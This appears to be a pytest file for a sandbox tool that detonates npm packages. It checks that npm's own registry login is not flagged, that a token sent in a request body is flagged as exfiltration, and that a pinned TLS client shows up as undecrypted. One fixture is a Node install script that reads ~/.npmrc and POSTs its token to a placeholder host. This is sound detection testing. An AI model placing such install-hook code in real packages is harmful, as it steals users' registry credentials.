"""Evidence precision: npm logging in to the registry its ~/.npmrc names is not exfiltration; the same token in a
body is; a client that does not trust the sandbox's CA is seen only by name and port, and the evidence says so."""

from __future__ import annotations

from pathlib import Path

from detonatetools import needs_sandbox, needs_strace, write_package

from shipwarden.detonate import DetonateOptions, Profile, run_detonate
from shipwarden.sandbox import Limits

pytestmark = [needs_sandbox, needs_strace]

#: the token sent in a POST body to the very registry host ~/.npmrc names (plain HTTP): that counts
BODY = r"""
const fs = require('fs'), os = require('os'), http = require('http');
const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const req = http.request({host: 'registry.npm.example.invalid', path: '/-/collect', method: 'POST'});
req.on('error', () => {});
req.end(npmrc);
"""

#: a client that trusts only its own roots (here: none), as Go binaries and pinned clients do: the sink cannot
#: terminate its TLS
PINNED = r"""
import socket, ssl
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
try:
    with socket.create_connection(('pinned.example.invalid', 443), timeout=5) as s:
        ctx.wrap_socket(s, server_hostname='pinned.example.invalid')
except Exception:
    pass
"""


def test_npm_login_to_its_registry_is_not_exfiltration(tmp_path: Path) -> None:
    pkg = write_package(tmp_path / "viewer", "viewer-fixture", {
        # npm itself asks the registry ~/.npmrc names, with the token ~/.npmrc holds for it
        "preinstall": "npm view left-pad version --fetch-retries=0 --fetch-timeout=5000 || true",
        "install": "node body.js",
        "postinstall": "python3 pinned.py",
    }, {"body.js": BODY, "pinned.py": PINNED})
    result = run_detonate(DetonateOptions([str(pkg)], [Profile.LAPTOP], Limits(wall_seconds=90, cpu_seconds=90,
                                          memory_bytes=8 << 30, output_bytes=64 << 20), linger=1))
    obs = result.observations[0]
    by_rule = {f.rule_id: f for f in result.report.findings}
    network = by_rule["detonate-network"]
    # npm's own login to registry.npm.example.invalid:443 is named, and not counted
    assert "~/.npmrc → registry.npm.example.invalid:443" in network.message
    assert obs.logins == ["~/.npmrc → registry.npm.example.invalid:443"]
    # the same token in a body to the same host is exfiltration
    sent = by_rule["detonate-canary-sent"]
    assert sent.properties["destinations"] == ["registry.npm.example.invalid:80"], sent.message
    # the pinned client: only the name and port, and the evidence says why
    assert "TLS not decrypted" in network.message and "pinned.example.invalid:443" in network.message
    assert network.properties["undecrypted_tls"] == ["pinned.example.invalid:443"]
